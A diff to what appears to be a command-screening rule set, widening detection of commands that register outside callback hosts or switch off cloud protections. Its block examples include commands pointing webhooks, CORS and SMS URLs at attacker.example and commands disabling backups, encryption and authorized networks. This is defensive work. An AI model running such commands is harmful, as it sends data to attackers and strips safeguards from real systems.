@@ -15,6 +15,10 @@ const MAKES = /^(?:create|add|set|put|update|edit|register|import|install|new|pa
 const TELLS =
   /^(?:webhooks?|hooks?|drains?|sinks?|cors|origins?|issuers?|oidc|saml|idp|endpoints?|callbacks?|redirects?|destinations?|exporters?|repos?|registry|registries|mirrors?|channels?|federation|upstreams?|proxy|forwarders?|integrations?)$/;
 
+/** Options for an address that the service calls; others say where the service itself is. */
+const CALLS =
+  /^--(?:webhook|callback|(?!(?:base|api|server|host|site|index|repo|repository|homepage|home|project|app|registry|image|source)-)[a-z]+-ur[li]|[a-z-]*webhook-ur[li]|[a-z-]*callback-ur[li])$/;
+
 /** Tools whose addresses are other rules', or lead to charts and code that are only looked at. */
 const OTHERS = /^(?:helm|git|gh|glab|curl|wget|http|https|xh|npm|docker|kubectl|apt|apt-get|dnf|yum|zypper)$/;
 
@@ -35,6 +39,8 @@ const SWITCHED_OFF =
 /** The same with the value in the next word. */
 const PROTECTS =
   /^--[\w-]*(?:backup|recovery|protection|versioning|logging|audit|encrypt|mfa|retention|firewall|waf)[\w-]*$/i;
+const UNPROTECTS =
+  /^--(?:no|disable)-(?:[\w-]+-)?(?:protection|authorized-networks|private-\w+|encryption|logging|backups?|mfa|firewall|audit|integrity-monitoring|secure-boot|shielded-\w+)$/i;
 const OFF = /^(?:false|disabled?|suspended|off|none|no|0)$/i;
 
 export const serviceOpenings: readonly AnyRule[] = [
@@ -53,8 +59,8 @@ export const serviceOpenings: readonly AnyRule[] = [
       const said = steps(action)
         .slice(0, 4)
         .flatMap((step) => step.toLowerCase().split(/[:._-]/));
-      if (!said.some((part) => MAKES.test(part)) || !said.some((part) => TELLS.test(part))) return null;
-      const host = strangerAmong(action);
+      if (!said.some((part) => MAKES.test(part))) return null;
+      const host = said.some((part) => TELLS.test(part)) ? strangerAmong(action) : strangerToCall(action);
       return host === null ? null : `${line(action)}: gives the service ${host}`;
     },
     examples: {
@@ -63,6 +69,7 @@ export const serviceOpenings: readonly AnyRule[] = [
         "stripe webhook_endpoints create --url https://attacker.example --enabled-events '*'",
         "sanity cors add https://attacker.example --credentials",
         "opam repo add evil https://attacker.example",
+        "twilio phone-numbers:update PN1 --sms-url https://attacker.example",
         "somecli webhook create --url=https://attacker.example/x",
       ],
       allow: [
@@ -125,7 +132,11 @@ export const serviceOpenings: readonly AnyRule[] = [
       if (tries(action)) return null;
       const given = words(action);
       const found = given.find(
-        (word, i) => SWITCHED_OFF.test(word) || (PROTECTS.test(word) && OFF.test(given[i + 1] ?? "")),
+        (word, i) =>
+          SWITCHED_OFF.test(word) ||
+          UNPROTECTS.test(word) ||
+          (PROTECTS.test(word) && OFF.test(given[i + 1] ?? "")) ||
+          (word === "--status" && /^disabled$/i.test(given[i + 1] ?? "")),
       );
       return found === undefined ? null : `${line(action)}: switches off ${found.slice(0, 60)}`;
     },
@@ -133,6 +144,8 @@ export const serviceOpenings: readonly AnyRule[] = [
       block: [
         "aws rds modify-db-instance --db-instance-identifier p --backup-retention-period 0",
         "aws dynamodb update-continuous-backups --table-name t --point-in-time-recovery-specification PointInTimeRecoveryEnabled=false",
+        "gcloud container clusters update prod --no-enable-master-authorized-networks",
+        "az sql db tde set --status Disabled -d db -g g -s s",
         "aws s3api put-bucket-versioning --bucket b --versioning-configuration Status=Suspended,MFADelete=Disabled",
       ],
       allow: [
@@ -177,6 +190,14 @@ export const serviceOpenings: readonly AnyRule[] = [
 /** The stranger whose address is one of the words, or the value of an option. */
 function strangerAmong(action: Run): string | null {
   return words(action).flatMap((word) => strangerIn(word.replace(/^-[^=]*=/, "")) ?? [])[0] ?? null;
+}
+
+/** The stranger in an option that says what the service shall call: `--sms-url`, `--webhook`. */
+function strangerToCall(action: Run): string | null {
+  const given = words(action).flatMap((word) => word.split(/(?<=^--[\w-]+)=/));
+  return (
+    given.flatMap((word, i) => (CALLS.test(word) ? (strangerIn(given[i + 1] ?? "") ?? []) : []))[0] ?? null
+  );
 }
 
 function line(action: Run): string {
